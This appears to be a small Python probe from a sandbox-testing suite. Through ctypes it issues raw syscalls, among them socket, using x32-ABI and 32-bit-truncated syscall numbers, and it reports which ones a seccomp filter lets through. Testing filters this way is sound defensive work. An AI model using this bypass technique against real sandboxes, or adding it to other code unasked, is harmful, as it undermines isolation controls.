"""make calls by the numbers of x32, and by ones that are cut to 32 bits

Breach: an answer from the kernel. Runs with ctypes.
"""

import ctypes

VERDICT = "SV AC"
RUNTIME = "peers"
X32 = 0x40000000
SOCKET, FORK = 41, 57


def attack(bait: bytes) -> bytes:
    calls = ctypes.CDLL(None, use_errno=True)
    got = []
    for number in (SOCKET | 1 << 32, SOCKET | X32, 45 | X32, 1 << 32, X32 | 520):
        if calls.syscall(ctypes.c_long(number), 2, 1, 0) >= 0:
            got.append(b"%x" % number)
    return b" ".join(got)
